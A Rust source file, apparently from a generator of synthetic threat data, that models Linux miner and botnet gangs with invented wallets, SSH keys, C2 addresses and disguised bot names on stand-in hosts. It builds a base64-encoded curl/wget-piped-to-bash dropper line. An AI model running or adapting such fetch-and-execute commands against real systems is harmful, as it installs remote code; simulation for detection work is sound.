@@ -1,0 +1,201 @@
+//! seed → gangs, their waves, and the values that their scenes are filled with.
+//!
+//! The families follow what public reports say of Linux miners and botnets of 2018 to 2024: what they are entered
+//! by, what they run, what they leave behind. Names, wallets, keys and places are invented. Nothing here is taken
+//! from the rules that look for such things.
+
+use super::random::{Random, scatter};
+use super::scene::{self, Scene};
+
+/// What `{g:name}` may say, in the order of a wave's values.
+pub(super) const NAMES: [&str; 16] = [
+    "server", "url", "script", "binary", "wallet", "pool", "key", "paste", "c2", "dir", "bot", "dropper", "b64",
+    "mail", "second", "channel",
+];
+
+/// A kit: the stages of its incidents, in order.
+pub(super) struct Family {
+    pub(super) name: &'static str,
+    pub(super) scenes: Vec<Scene>,
+}
+
+pub(super) struct Gang {
+    pub(super) name: &'static str,
+    pub(super) family: usize,
+    /// By wave: what `NAMES` stand for.
+    pub(super) waves: Vec<Vec<String>>,
+    /// Its part of all incidents.
+    pub(super) weight: u64,
+}
+
+const FAMILIES: [(&str, &str); 7] = [
+    ("ssh_loader", include_str!("scenes/ssh_loader.scene")),
+    ("redis_miner", include_str!("scenes/redis_miner.scene")),
+    ("docker_miner", include_str!("scenes/docker_miner.scene")),
+    ("java_miner", include_str!("scenes/java_miner.scene")),
+    ("php_miner", include_str!("scenes/php_miner.scene")),
+    ("worm", include_str!("scenes/worm.scene")),
+    ("ssh_shellbot", include_str!("scenes/ssh_shellbot.scene")),
+];
+
+/// Name, family, weight, its working folder, its bot, its dropper, whether it uses the public pool and paste site.
+type Row = (&'static str, &'static str, u64, &'static str, &'static str, &'static str, bool);
+
+const GANGS: [Row; 9] = [
+    ("loop lantern", "ssh_loader", 14, "/tmp", "pty", "loop", false),
+    ("red rake", "redis_miner", 22, "/var/tmp/.rk", "kdevtmpfsx", "rk.sh", true),
+    ("moss pool", "redis_miner", 10, "/etc/.mossd", "mossd", "init.sh", true),
+    ("whaleback", "docker_miner", 14, "/usr/share/.wb", "dockerd-netns", "wb.sh", false),
+    ("javelin", "java_miner", 12, "/tmp/.java_pid", "jvmwatch", "ldr.sh", false),
+    ("phpantom", "php_miner", 10, "/dev/shm/.php", "php-cgi8", "p.sh", false),
+    ("burrow", "worm", 6, "/opt/.burrow", "brw", "b.sh", false),
+    ("outrider", "ssh_shellbot", 8, "/root/.configrd", "kswapd01", "tddwrt7s.sh", false),
+    ("cold kiln", "ssh_loader", 4, "/var/run", "kiln", "arm7k", false),
+];
+
+pub(super) const WAVES: u64 = 3;
+
+pub(super) fn families() -> Result<Vec<Family>, String> {
+    FAMILIES
+        .iter()
+        .map(|(name, text)| {
+            let scenes = scene::parse(text, &NAMES).map_err(|error| format!("{name}: {error}"))?;
+            Ok(Family { name, scenes })
+        })
+        .collect()
+}
+
+pub(super) fn gangs(families: &[Family], seed: u64) -> Vec<Gang> {
+    let public = Random::new(scatter(seed ^ 0x900d));
+    (0u64..)
+        .zip(&GANGS)
+        .map(|(n, row)| Gang {
+            name: row.0,
+            family: families.iter().position(|it| it.name == row.1).unwrap_or(0),
+            waves: (0..WAVES).map(|wave| values(row, n, wave, seed, &public)).collect(),
+            weight: row.2,
+        })
+        .collect()
+}
+
+impl Family {
+    /// Expected number of events of one incident, in thousandths.
+    pub(super) fn expected_events(&self) -> u64 {
+        self.scenes.iter().map(Scene::expected_events).sum()
+    }
+}
+
+/// What stays with a gang (wallet, key, folder, bot) is drawn from the gang alone; the rest from the wave too.
+fn values(row: &Row, gang: u64, wave: u64, seed: u64, public: &Random) -> Vec<String> {
+    const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
+    const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
+    let mut own = Random::new(scatter(seed ^ scatter(gang + 0x6a)));
+    let mut new = Random::new(scatter(seed ^ scatter((gang << 8) + wave + 0x3e)));
+    let mut public = public.clone();
+    let public_pool = format!("pool{}.minersunited.example:3333", public.between(1, 9));
+    let server = match (gang + wave) % 3 {
+        0 => format!("192.0.2.{}", 10 + (gang * WAVES + wave) * 4 + new.below(4)),
+        1 => format!("{}{}.example", text(LOWER, 5, &mut new), new.between(10, 99)),
+        _ => {
+            format!("{}.{}.test:8{}", text(&LOWER[..26], 2, &mut new), text(LOWER, 7, &mut new), new.between(100, 999))
+        }
+    };
+    let path = text(LOWER, 4, &mut new);
+    let url = format!("http://{server}/{path}");
+    let script = format!("{url}/{}", row.5);
+    let wallet = format!("4{}{}", ["4", "7", "8", "A", "B"][own.below(5) as usize], text(BASE58, 93, &mut own));
+    let key = format!("AAAAB3NzaC1yc2EAAAADAQABAAABAQC{}", text(BASE64, 341, &mut own));
+    let mail = format!("{}@mail.test", text(&LOWER[..26], 8, &mut own));
+    let channel = format!("#{}", text(&LOWER[..26], 4, &mut own));
+    let pool = if row.6 {
+        public_pool
+    } else {
+        format!("xmr.{}.example:{}", text(LOWER, 6, &mut own), own.between(3000, 9999))
+    };
+    let paste = format!("https://pastes.example/raw/{}", text(LOWER, 8, &mut new));
+    let c2 = format!(
+        "198.51.100.{}:{}",
+        2 + (gang * WAVES + wave) * 6 + new.below(6),
+        [6667, 443, 8443, 31337, 1234][new.below(5) as usize]
+    );
+    let payload = format!("(curl -fsSL {script}||wget -q -O- {script})|bash");
+    let second = format!("{}.{}.example", text(&LOWER[..26], 3, &mut new), text(LOWER, 6, &mut new));
+    vec![
+        server,
+        url.clone(),
+        script,
+        format!("{url}/{}", row.4),
+        wallet,
+        pool,
+        key,
+        paste,
+        c2,
+        row.3.to_owned(),
+        row.4.to_owned(),
+        row.5.to_owned(),
+        base64(payload.as_bytes()),
+        mail,
+        second,
+        channel,
+    ]
+}
+
+fn text(letters: &[u8], length: usize, random: &mut Random) -> String {
+    (0..length).map(|_| char::from(letters[random.below(letters.len() as u64) as usize])).collect()
+}
+
+pub(super) fn base64(bytes: &[u8]) -> String {
+    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let bits = chunk.iter().fold(0u32, |bits, byte| (bits << 8) | u32::from(*byte)) << (8 * (3 - chunk.len()));
+        for at in 0..4 {
+            let letter = LETTERS[(bits >> (18 - 6 * at)) as usize & 63];
+            out.push(if at <= chunk.len() { char::from(letter) } else { '=' });
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeSet;
+
+    use super::*;
+
+    fn value<'a>(gang: &'a Gang, wave: usize, name: &str) -> &'a str {
+        &gang.waves[wave][NAMES.iter().position(|it| *it == name).unwrap()]
+    }
+
+    #[test]
+    fn waves_renew_their_servers_and_keep_wallet_and_key() {
+        let gangs = gangs(&families().unwrap(), 4);
+        for gang in &gangs {
+            assert_ne!(value(gang, 0, "server"), value(gang, 1, "server"));
+            assert_eq!(value(gang, 0, "wallet"), value(gang, 2, "wallet"));
+            assert_eq!(value(gang, 0, "key"), value(gang, 2, "key"));
+            assert_eq!(value(gang, 0, "wallet").len(), 95);
+        }
+        let wallets: BTreeSet<&str> = gangs.iter().map(|it| value(it, 0, "wallet")).collect();
+        let servers: BTreeSet<&str> =
+            gangs.iter().flat_map(|it| (0..3).map(|wave| value(it, wave, "server"))).collect();
+        assert_eq!((wallets.len(), servers.len()), (gangs.len(), gangs.len() * 3));
+    }
+
+    #[test]
+    fn two_gangs_share_a_public_pool_and_a_paste_site() {
+        let gangs = gangs(&families().unwrap(), 4);
+        let sharing: Vec<&Gang> = gangs.iter().filter(|it| value(it, 0, "pool").contains("minersunited")).collect();
+        assert_eq!(sharing.len(), 2);
+        assert_eq!(value(sharing[0], 0, "pool"), value(sharing[1], 2, "pool"));
+        assert_ne!(value(sharing[0], 0, "paste"), value(sharing[1], 0, "paste"));
+    }
+
+    #[test]
+    fn base64_pads() {
+        assert_eq!(base64(b"light w"), "bGlnaHQgdw==");
+        assert_eq!(base64(b"light wo"), "bGlnaHQgd28=");
+        assert_eq!(base64(b"light wor"), "bGlnaHQgd29y");
+    }
+}
